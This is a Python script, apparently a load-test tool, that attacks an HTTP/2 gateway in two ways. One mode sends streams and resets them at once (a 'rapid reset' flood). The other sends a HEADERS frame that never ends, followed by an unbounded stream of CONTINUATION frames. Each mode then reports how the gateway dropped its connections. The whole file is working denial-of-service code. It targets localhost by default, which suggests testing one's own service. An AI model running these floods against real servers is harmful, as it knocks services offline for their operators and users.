#!/usr/bin/env python3
"""HTTP/2 (prior knowledge, plain TCP) abuse against the gateway.

usage: h2attack.py reset SECONDS [TOKEN]   HEADERS then RST_STREAM at once, in a loop, on one
                                           connection; reconnects if the gateway closes it
       h2attack.py continuation SECONDS    one HEADERS without END_HEADERS, then 16 KiB
                                           CONTINUATION frames until the gateway closes
Stops by itself after SECONDS. Needs `pip install h2`. Prints streams sent, connections
used, and how each connection ended (GOAWAY error code or a plain close).
"""
import collections, os, socket, struct, sys, time
import h2.config, h2.connection, h2.events, h2.errors

mode, secs = sys.argv[1], float(sys.argv[2])
token = sys.argv[3] if len(sys.argv) > 3 else None
host, port = os.environ.get("GW", "127.0.0.1:18080").split(":")
end_at = time.monotonic() + secs
ends = collections.Counter()


def connect():
    s = socket.create_connection((host, int(port)))
    c = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    c.initiate_connection()
    s.sendall(c.data_to_send())
    return s, c


def drain(s, c):
    """Reads what is there without waiting; returns a reason if the connection ended."""
    s.setblocking(False)
    try:
        while True:
            data = s.recv(65536)
            if not data:
                return "closed"
            for ev in c.receive_data(data):
                if isinstance(ev, h2.events.ConnectionTerminated):
                    return f"GOAWAY {h2.errors.ErrorCodes(ev.error_code).name}"
    except BlockingIOError:
        return None
    except (ConnectionError, h2.exceptions.ProtocolError) as e:
        return type(e).__name__
    finally:
        s.setblocking(True)


def reset():
    headers = [(":method", "POST"), (":path", "/api/v1/data_sources/1/test"),
               (":scheme", "http"), (":authority", "gw"), ("content-length", "0")]
    if token:
        headers.append(("authorization", f"Bearer {token}"))
    streams = conns = 0
    while time.monotonic() < end_at:
        s, c = connect()
        conns += 1
        why = None
        while why is None and time.monotonic() < end_at:
            try:
                for _ in range(100):
                    sid = c.get_next_available_stream_id()
                    c.send_headers(sid, headers, end_stream=True)
                    c.reset_stream(sid)
                    streams += 1
                s.sendall(c.data_to_send())
            except (OSError, h2.exceptions.ProtocolError) as e:
                why = type(e).__name__
                break
            why = drain(s, c)
        ends[why or "still open at the end"] += 1
        s.close()
    print(f"reset: {streams} streams opened and reset on {conns} connections in {secs:.0f}s")


def continuation():
    s, c = connect()
    hdr = lambda length, typ, flags, sid: struct.pack(">I", length)[1:] + bytes([typ, flags]) + struct.pack(">I", sid)
    block = b"\x40\x01x\x7f\x81" + b"\x7f" * 16000  # a literal header whose value never ends
    s.sendall(hdr(5, 0x1, 0x0, 1) + block[:5])         # HEADERS, no END_HEADERS, no END_STREAM
    frame = hdr(16384, 0x9, 0x0, 1) + b"a" * 16384    # CONTINUATION, no END_HEADERS
    sent, why = 0, None
    while time.monotonic() < end_at and why is None:
        try:
            s.sendall(frame)
            sent += len(frame)
        except OSError as e:
            why = type(e).__name__
            break
        why = drain(s, c)
    ends[why or "still open at the end"] += 1
    print(f"continuation: {sent / 1e6:.1f} MB of CONTINUATION sent in {secs:.0f}s or less")


{"reset": reset, "continuation": continuation}[mode]()
for k, v in ends.items():
    print(f"  {v:6d} connection(s) ended: {k}")
